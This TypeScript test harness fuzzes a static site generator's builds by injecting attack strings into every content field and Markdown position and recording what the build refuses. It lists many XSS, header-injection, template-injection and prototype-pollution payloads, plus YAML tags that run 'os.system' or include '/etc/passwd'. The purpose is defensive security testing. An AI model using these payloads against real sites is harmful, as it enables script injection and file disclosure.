// The site with attacks in its content: what attackers write, where it is put, and builds of it. A field whose value the
// build refuses, at its own line, keeps what it had; everything else carries the attack.
import { execFile, spawn, type ChildProcess } from "node:child_process";
import { cpSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { dirname, join, resolve } from "node:path";
import { createInterface } from "node:readline";

const repository = resolve(import.meta.dirname, "../..");
const sitegen = resolve(repository, process.env.SITEGEN ?? "target/release/sitegen");

/** A value of content: its file, its lines from zero, and what stands before it. */
export interface Field {
  file: string;
  start: number;
  end: number;
  head: string;
  number: number;
}

/** What is put into content. What is raw is written into YAML as it stands, without quotes around it. */
export interface Attack {
  text: string;
  isRaw: boolean;
}

/** An attack at a position of a page of Markdown. */
interface Block {
  file: string;
  attack: Attack;
  text: string;
}

/** What a site has in its content: each field one attack, or several, one after the other. */
export interface Site {
  fields: Map<Field, Attack[]>;
  blocks: Set<Block>;
}

/** Where the build takes an attack. */
export interface Taken {
  attack: Attack;
  site: Site;
  tried: number;
  /** Fields and positions that refuse the attack, with the codes that the build gave. */
  refused: number;
  codes: string[];
}

/** Every one calls `pwned()` wherever it comes to run, or asks `e.example` for something wherever it comes to load. */
const quotedYaml: readonly string[] = [
  // out of text, attributes, and elements with rules of their own
  `<script>pwned()</script>`,
  `<ScRiPt >pwned()</sCrIpT >`,
  `<script src=//e.example/x.js></script>`,
  `</script><script>pwned()</script>`,
  `<!--<script>pwned()</script>`,
  `--><script>pwned()</script><!--`,
  `--!><img src=x onerror=pwned()>`,
  `<!--><img src=x onerror=pwned()>-->`,
  `]]><script>pwned()</script>`,
  `<![CDATA[<img src=x onerror=pwned()>]]>`,
  `</title><script>pwned()</script>`,
  `</textarea><img src=x onerror=pwned()>`,
  `</style><img src=x onerror=pwned()>`,
  `</noscript><img src=x onerror=pwned()>`,
  `</template><img src=x onerror=pwned()>`,
  `</iframe><img src=x onerror=pwned()>`,
  `<img src=x onerror=pwned()>`,
  `<img/src=x/onerror=pwned()>`,
  `<svg onload=pwned()>`,
  `<svg/onload=pwned()//`,
  `<svg><set attributeName=href to=javascript:pwned()>`,
  `<svg><a><animate attributeName=href values=javascript:pwned()></animate><text y=9>x</text></a>`,
  `<svg><title><img src=x onerror=pwned()></title></svg>`,
  `<svg><style><img src=x onerror=pwned()></style>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=pwned()>`,
  `<math href=javascript:pwned()>x</math>`,
  `<noscript><p title="</noscript><img src=x onerror=pwned()>">`,
  `<iframe srcdoc="<script>parent.pwned()</script>">`,
  `<iframe src=javascript:pwned()>`,
  `<iframe><p title="</iframe><img src=x onerror=pwned()>">`,
  `<object data=javascript:pwned()>`,
  `<embed src=//e.example/x.swf>`,
  `<base href=//e.example/>`,
  `<meta http-equiv=refresh content="0;url=//e.example/">`,
  `<meta http-equiv=Content-Security-Policy content="script-src *">`,
  `<link rel=stylesheet href=//e.example/x.css>`,
  `<link rel=modulepreload href=//e.example/x.js>`,
  `<form action=//e.example/><button formaction=javascript:pwned()>`,
  `<input autofocus onfocus=pwned()>`,
  `<details open ontoggle=pwned()>`,
  `<video><source onerror=pwned()></video>`,
  `<body onpageshow=pwned()>`,
  `<html onmouseover=pwned()>`,
  `<div data-island=ContactForm data-modules=//e.example/x.js data-hydrate=load>`,
  `<div data-island="X" data-modules="data:text/javascript,pwned()" data-hydrate="load" data-props="{}">`,
  `" onmouseover="pwned()`,
  `' onmouseover='pwned()`,
  `" autofocus onfocus=pwned() x="`,
  `"><script>pwned()</script>`,
  `'><script>pwned()</script>`,
  `\`><script>pwned()</script>`,
  `x onerror=pwned()`,
  `/onload=pwned()`,
  `\\"><script>pwned()</script>`,
  `\\u003cscript>pwned()\\u003c/script>`,
  `&lt;script&gt;pwned()&lt;/script&gt;`,
  `&quot; onload=pwned() x=&quot;`,
  `&#60;img src=x onerror=pwned()&#62;`,
  `&#x22;&#x3e;&#x3c;script&#x3e;pwned()`,
  `<\u0000script>pwned()</script>`,
  `＜script＞pwned()＜/script＞`,
  `%3Cscript%3Epwned()%3C/script%3E`,
  `+ADw-script+AD4-pwned()+ADw-/script+AD4-`,
  // addresses
  `javascript:pwned()`,
  `JaVaScRiPt:pwned()`,
  ` javascript:pwned()`,
  `java\tscript:pwned()`,
  `java\nscript:pwned()`,
  `\u0001javascript:pwned()`,
  `javascript&colon;pwned()`,
  `&#106;avascript:pwned()`,
  `java&Tab;script:pwned()`,
  `javascript://e.example/%0apwned()`,
  `javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+pwned()//'>`,
  `vbscript:pwned()`,
  `data:text/html,<script>parent.pwned()</script>`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="pwned()"/>`,
  `//e.example/x`,
  `\\\\e.example\\x`,
  `/\\e.example/x`,
  `/x, //e.example/x 2x`,
  `https://e.example/x.png; script-src * 'unsafe-inline'`,
  `../../../../etc/passwd`,
  // policies, headers and styles
  `'unsafe-inline'; script-src *`,
  `x; script-src 'unsafe-inline' *; report-uri //e.example`,
  `x\r\nSet-Cookie: a=b\r\n\r\n<script>pwned()</script>`,
  `x\n  X-Evil: 1\n/*\n  Content-Security-Policy: script-src *`,
  `}</style><script>pwned()</script>`,
  `red;background:url(//e.example/x.png)`,
  `expression(pwned())`,
  `@import "//e.example/x.css";`,
  // template languages, JSON, JavaScript
  `{{ 7 * 7 }}`,
  `{{ site.email | safe }}`,
  `{% include "base.html" %}<script>pwned()</script>`,
  `{{ get_env(name="HOME") }}`,
  `\${pwned()}`,
  `"}</script><script>pwned()</script>{"`,
  `","__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=pwned()>"}},"x":"`,
  `{"__html":"<img src=x onerror=pwned()>"}`,
  `\u2028pwned()\u2029`,
  `*/pwned()/*`,
  // the engine's own marks
  `\ue0000\ue001<script>pwned()</script>`,
  `\ue002ContactForm\u001fload\u001f{"form":{"note":"<script>pwned()</script>"}}\ue003`,
  `\ue003\ue002`,
  `\ue004templates/base.html:0\ue005<script>pwned()</script>`,
  `\u001e\u001fhtml\u001f<script>pwned()</script>`,
  // letters that browsers, terminals and parsers trip over
  `\u202e>tpircs/<)(denwp>tpircs<`,
  `\ufeff<script>pwned()</script>`,
  `\ud83d\ude00<script>pwned()</script>\u0301\u200d`,
  `\u0000\u0008\u001b[2J\u007f\u0085`,
  // Markdown
  `[x](javascript:pwned())`,
  `[x](<java\tscript:pwned()>)`,
  `[x](javascript&#58;pwned())`,
  `![x](x"onerror="pwned())`,
  `![x](//e.example/x.png)`,
  `<javascript:pwned()>`,
  `<https://e.example/"onmouseover="pwned()>`,
  `[x]: javascript:pwned()`,
  `](javascript:pwned()) [`,
  `"onclick="pwned()`,
  `{onclick=pwned()}`,
  `{#x" onclick="pwned()}`,
  "```html\n<script>pwned()</script>",
  "x` <script>pwned()</script> `",
  `[^x]: <script>pwned()</script>`,
  `|<img src=x onerror=pwned()>|\n|---|`,
  // out of the front matter
  `x\n---\n<script>pwned()</script>\n---\n`,
];

/** Tricks with the grammar of YAML. */
const rawYaml: readonly string[] = [
  `x\n---\n<script>pwned()</script>`,
  `&a <script>pwned()</script>`,
  `*a`,
  `!!js/function "pwned()"`,
  `!!python/object/apply:os.system ["touch /tmp/pwned"]`,
  `!include /etc/passwd`,
  `|\n  <script>pwned()</script>`,
  `{ __html: <script>pwned()</script> }`,
  `[<script>pwned()</script>]`,
  `x # <script>pwned()</script>`,
  `x\nraw_html: true`,
  `{{ site.email }}<script>pwned()</script>`,
];

export const attacks: readonly Attack[] = [
  ...quotedYaml.map((text) => ({ text, isRaw: false })),
  ...rawYaml.map((text) => ({ text, isRaw: true })),
];

/** Where Markdown can hold an attack. Each is a block of its own. Numbers keep the definitions of several attacks apart. */
const positions = (attack: string, number: number): string[] => [
  `Text ${attack} text`,
  `## Heading ${attack}`,
  `- item ${attack}`,
  `> quote ${attack}`,
  `| head ${attack} |\n|---|\n| cell ${attack} |`,
  `[link ${attack}](/careers)`,
  `[link](${attack})`,
  `[link](<${attack}>)`,
  `[link](/careers "${attack}")`,
  `[link](/careers '${attack}')`,
  `[link][one-${number}]\n\n[one-${number}]: /careers "${attack}"`,
  `[link][two-${number}]\n\n[two-${number}]: ${attack}`,
  `![${attack}](brand/favicon-48.png)`,
  `![x](${attack})`,
  `![x](brand/favicon-48.png "${attack}")`,
  `\`${attack}\``,
  `\`\`\`${attack}\ncode ${attack}\n\`\`\``,
  `    ${attack}`,
  `<${attack}>`,
  `## Own id {#${attack}}`,
  `Note[^a-${number}]\n\n[^a-${number}]: note ${attack}`,
  `**${attack}** *${attack}* ~~${attack}~~`,
  `\\${attack}`,
  attack,
  `<!-- ${attack} -->`,
  `<b title="${attack}">${attack}</b>`,
];

interface Options {
  withSchemas?: boolean;
  choices?: boolean;
  /** Adds files to the copy. */
  prepare?: (root: string) => void;
  /** The fields that are attacked, by their file, a colon and their line. Without it all are, and pages of Markdown. */
  only?: RegExp;
}

/** A copy of the project without schemas and budgets, so that every field takes any text. */
export class Target {
  readonly root: string;
  private readonly originals = new Map<string, string[]>();
  readonly fields: Field[] = [];
  private readonly choices: boolean;
  private readonly only?: RegExp;
  private readonly bodies: Map<string, string>;
  private builder?: Builder;
  private tries = 0;
  /** The text that each file has now, and the files that have another since the last build. */
  private readonly texts = new Map<string, string>();
  private readonly changed = new Set<string>();

  /** With `choices`, only the fields are attacked that choose what is shown; without, all others. */
  constructor(root: string, { withSchemas = false, choices = false, prepare, only }: Options = {}) {
    this.root = root;
    this.choices = choices;
    this.only = only;
    this.bodies = only ? new Map() : bodies;
    for (const part of ["content", "templates", "islands", "package.json", "package-lock.json"])
      cpSync(join(repository, part), join(root, part), { recursive: true });
    symlinkSync(join(repository, "node_modules"), join(root, "node_modules"));
    if (!withSchemas) rmSync(join(root, "content/schemas"), { recursive: true });
    const site = join(root, "content/site.yaml");
    writeFileSync(site, readFileSync(site, "utf8").replace(/\n  # What a visitor[\s\S]*?budgets:[\s\S]*?(?=\n\S|$)/, "\n"));
    prepare?.(root);
    for (const name of readdirSync(join(root, "content"), { recursive: true, encoding: "utf8" }))
      if (/\.(yaml|md)$/.test(name)) this.read(`content/${name}`);
  }

  private read(file: string): void {
    const lines = readFileSync(join(this.root, file), "utf8").split("\n");
    this.originals.set(file, lines);
    const end = file.endsWith(".md") ? lines.indexOf("---", 1) : lines.length;
    for (let start = 0; start < end; start++) {
      const [, head, value] = /^(\s*(?:- )*(?:\w+: +)?)([^\s#].*)$/.exec(lines[start]!) ?? [];
      if (value === undefined || value.endsWith(":") || value === "---" || head!.trim() === "") continue;
      // With another value than these, whole sections are not shown, and there would be less to attack.
      if (/^\s*(status|currency):/.test(head!) !== this.choices) continue;
      if (this.only && !this.only.test(`${file}:${lines[start]}`)) continue;
      // Where the key stands, or without one the last dash.
      const indent = head!.search(/\w|-\s*$/);
      let last = start + 1;
      if (/^[>|]/.test(value)) while (last < end && (lines[last]!.search(/\S|$/) > indent || lines[last] === "")) last++;
      this.fields.push({ file, start, end: last, head: head!, number: this.fields.length });
    }
  }

  /** Finds the fields and positions where the build takes an attack. */
  async take(attack: Attack): Promise<Taken> {
    const { text, isRaw } = attack;
    // A trick with YAML cannot be told apart by a value of its own.
    const fields = this.fields.filter((each) => !isRaw || !isReference(each));
    const number = this.tries++;
    const blocks = [...this.bodies.keys()].flatMap((file) =>
      positions(text, number).map((block) => ({ file, attack, text: block })),
    );
    const site = { fields: new Map(fields.map((each) => [each, [attack]])), blocks: new Set(blocks) };
    const codes = new Set<string>();
    const tried = size(site);
    await this.removeRefused(site, codes);
    return { attack, site, tried, refused: tried - size(site), codes: [...codes] };
  }

  /** Publishes a site, unless the build refuses something in it. */
  async publish(site: Site, out: string): Promise<boolean> {
    const before = size(site);
    await this.removeRefused(site, new Set());
    if (size(site) < before) return false;
    // What one process has built many times, the program builds and publishes once.
    const reported = await build(this.root, out);
    if (reported.length) throw new Error(`${namesOf(site)}: the program reports ${JSON.stringify(reported)}`);
    return true;
  }

  /** Builds a site without what the build refuses. */
  private async removeRefused(site: Site, codes: Set<string>): Promise<void> {
    const remove = (owner: Field | Block | undefined) => {
      if (owner && "head" in owner) site.fields.delete(owner);
      else if (owner) site.blocks.delete(owner);
    };
    for (let round = 0; round < 400; round++) {
      const owners = new Map<string, (Field | Block | undefined)[]>();
      for (const file of this.originals.keys()) owners.set(file, this.writeFields(file, site));
      for (const file of this.bodies.keys()) owners.set(file, this.writeBlocks(file, site));
      const reported = await this.rebuild();
      if (reported.length === 0) return;
      const before = size(site);
      for (const { file, line, code, message } of reported) {
        codes.add(code);
        const named = /#f(\d+)/.exec(message);
        if (named) {
          remove(this.fields[Number(named[1])]!);
          continue;
        }
        const all = owners.get(file ?? "") ?? [];
        let at = Math.min(line ?? 1, all.length) - 1;
        // What opens at one block may be missed at the end of the file.
        if (this.bodies.has(file!)) while (at > 0 && all[at] === undefined) at--;
        remove(all[at]);
      }
      const after = size(site);
      if (after < before) continue;
      // A mistake that is reported at a line without an attack was made by the file's other lines: all of them are given up.
      for (const name of reported.flatMap(({ file, page }) => [file, page]))
        [...site.fields.keys(), ...site.blocks].filter((each) => each.file === name).forEach(remove);
      if (size(site) < after) continue;
      if (site.fields.size > 0) site.fields.clear();
      else throw new Error(`${namesOf(site)} is refused where it is not: ${JSON.stringify(reported)}`);
    }
    throw new Error(`${namesOf(site)}: no end of mistakes`);
  }

  /** Writes a file with the attacks in its fields, and gives the field of each line. */
  private writeFields(file: string, site: Site): (Field | undefined)[] {
    const text: string[] = [];
    const owners: (Field | undefined)[] = [];
    const add = (written: string, owner?: Field) =>
      written.split("\n").forEach((line) => (text.push(line), owners.push(owner)));
    const lines = this.originals.get(file)!;
    const fields = new Map(this.fields.filter((each) => each.file === file).map((each) => [each.start, each]));
    for (let line = 0; line < lines.length; line++) {
      const field = fields.get(line);
      const attacks = field && site.fields.get(field);
      if (!attacks) {
        add(lines[line]!);
        continue;
      }
      const value = attacks.map((each) => each.text).join(" ");
      const isRaw = attacks.some((each) => each.isRaw);
      add(field.head + (isRaw ? value : quoted(isReference(field) ? `${value}#f${field.number}` : value)), field);
      line = field.end - 1;
    }
    this.write(file, text.join("\n"));
    return owners;
  }

  /** Writes a page of Markdown with the blocks and, before those of each attack, a mark; and gives the block of each line. */
  private writeBlocks(file: string, site: Site): (Block | undefined)[] {
    let text = `---\ntitle: Attack\ndescription: Attack\n${this.bodies.get(file)}---\n\n`;
    const owners: (Block | undefined)[] = Array(text.split("\n").length - 1).fill(undefined);
    const add = (written: string, owner?: Block) => {
      text += `${written}\n\n`;
      owners.push(...`${written}\n`.split("\n").map(() => owner));
    };
    const marked = new Set<Attack>();
    for (const block of site.blocks) {
      if (block.file !== file) continue;
      if (!marked.has(block.attack)) add(`Mark ${marked.size}`);
      marked.add(block.attack);
      add(block.text, block);
    }
    this.write(file, text);
    return owners;
  }

  write(file: string, text: string): void {
    if (this.texts.get(file) === text) return;
    this.texts.set(file, text);
    this.changed.add(file);
    mkdirSync(dirname(join(this.root, file)), { recursive: true });
    writeFileSync(join(this.root, file), text);
  }

  /** Builds without publishing, and gives the errors. */
  private async rebuild(): Promise<Reported[]> {
    this.builder ??= new Builder(this.root);
    const changed = [...this.changed];
    this.changed.clear();
    return errors(await this.builder.build(changed));
  }

  end(): void {
    this.builder?.end();
  }
}

const size = (site: Site): number => site.fields.size + site.blocks.size;

const attacksOf = (site: Site): Set<Attack> =>
  new Set([...[...site.fields.values()].flat(), ...[...site.blocks].map((each) => each.attack)]);

/** The attacks of a site, as a message names them. */
export const namesOf = (site: Site): string => [...attacksOf(site)].map((each) => JSON.stringify(each.text)).join(", ");

/** How many attacks a page of Markdown holds: each has a mark before it. */
export const marksOf = (site: Site, file: string): number =>
  new Set([...site.blocks].filter((each) => each.file === file).map((each) => each.attack)).size;

/**
 * Sites that together hold each attack wherever the build takes it. The first has all attacks: those that a field takes are
 * in it one after the other, and Markdown has them one below the other. A field that takes only some of them reads its value
 * in a way of its own, in which one attack could hide the next: it gets each in another site.
 */
export function sitesOf(taken: Taken[]): Site[] {
  const together = taken.filter(({ attack, site }) => !attack.isRaw && site.fields.size > 0);
  const isText = (field: Field) => !isReference(field) && together.every(({ site }) => site.fields.has(field));
  const texts = new Set(together.flatMap(({ site }) => [...site.fields.keys()]).filter(isText));
  const first: Site = {
    fields: new Map([...texts].map((field) => [field, together.map(({ attack }) => attack)])),
    // Nothing follows what may open a block of code.
    blocks: new Set([false, true].flatMap((opens) => taken.filter(({ attack }) => attack.text.includes("`") === opens))
      .flatMap(({ site }) => [...site.blocks])),
  };
  const others = taken.map(({ attack, site }): Site => {
    const fields = [...site.fields].filter(([field]) => attack.isRaw || !texts.has(field));
    return { fields: new Map(fields), blocks: new Set() };
  });
  return [first, ...others].filter((site) => size(site) > 0);
}

/** Two sites, each with half of the attacks of one, or none if it has one attack. */
export function halvesOf(site: Site): Site[] {
  const all = [...attacksOf(site)];
  if (all.length < 2) return [];
  return [all.slice(0, all.length / 2), all.slice(all.length / 2)].map((half) => {
    const fields = [...site.fields].map(([field, attacks]) => [field, attacks.filter((each) => half.includes(each))] as const);
    return {
      fields: new Map(fields.filter(([, attacks]) => attacks.length > 0)),
      blocks: new Set([...site.blocks].filter((each) => half.includes(each.attack))),
    };
  });
}

/** The pages of Markdown that hold an attack at all positions, and what their front matter says of HTML. */
const bodies = new Map([
  ["content/pages/attack.md", ""],
  ["content/pages/attack-html.md", "raw_html: true\n"],
]);

/** Keys whose value names a file or a page. Each gets a value of its own, by which a refusal is told apart from others. */
const isReference = ({ head }: Field) =>
  /^\s*(?:- )*(art|src|svg|png|apple_touch|image|font|path|url|template): /.test(head);

export interface Reported {
  severity: string;
  code: string;
  message: string;
  file: string | null;
  line: number | null;
  page: string | null;
}

/** Those that are no warnings. One without a place is an error here. */
function errors(diagnostics: Reported[]): Reported[] {
  const reported = diagnostics.filter((each) => each.severity !== "warning");
  if (reported.some((each) => !each.file)) throw new Error(`an error without a place: ${JSON.stringify(reported)}`);
  return reported;
}

/** A process that builds a project again and again. */
class Builder {
  private readonly child: ChildProcess;
  private readonly answers: AsyncIterator<string>;

  constructor(root: string) {
    const program = join(dirname(sitegen), "examples/builder");
    if (!existsSync(program)) throw new Error(`There is no ${program}. Build it with the profile of ${sitegen} and \`--example builder\`.`);
    this.child = spawn(program, [root], { stdio: ["pipe", "pipe", "inherit"] });
    this.answers = createInterface(this.child.stdout!)[Symbol.asyncIterator]();
  }

  async build(changed: string[]): Promise<Reported[]> {
    this.child.stdin!.write(`${JSON.stringify(changed)}\n`);
    const { done, value } = await this.answers.next();
    if (done) throw new Error("the builder crashed");
    return JSON.parse(value) as Reported[];
  }

  end(): void {
    this.child.stdin!.end();
  }
}

/** Builds and publishes a project and gives its errors. One that crashes is an error here. */
export async function build(root: string, out: string): Promise<Reported[]> {
  const { status, stderr } = await new Promise<{ status: number | string | null; stderr: string }>((done) =>
    execFile(
      sitegen,
      ["build", "--quiet", "--now", "2026-12-01", "--format", "json", "--root", root, "--out", out],
      { timeout: 120_000, maxBuffer: 1 << 28 },
      (error, _, stderr) => done({ status: error ? (error.code ?? null) : 0, stderr }),
    ),
  );
  const lines = stderr.split("\n").filter(Boolean);
  const reported = errors(lines.map((line) => JSON.parse(line) as Reported));
  if (status !== (reported.length ? 1 : 0)) throw new Error(`sitegen ended with ${status}: ${stderr}`);
  return reported;
}

/** A YAML text that is read as exactly this value. */
const quoted = (text: string): string =>
  `"${[...text]
    .map((letter) => (/["\\]/.test(letter) ? `\\${letter}` : /[ -~]/.test(letter) ? letter : escaped(letter)))
    .join("")}"`;
const escaped = (letter: string) => `\\U${letter.codePointAt(0)!.toString(16).padStart(8, "0")}`;
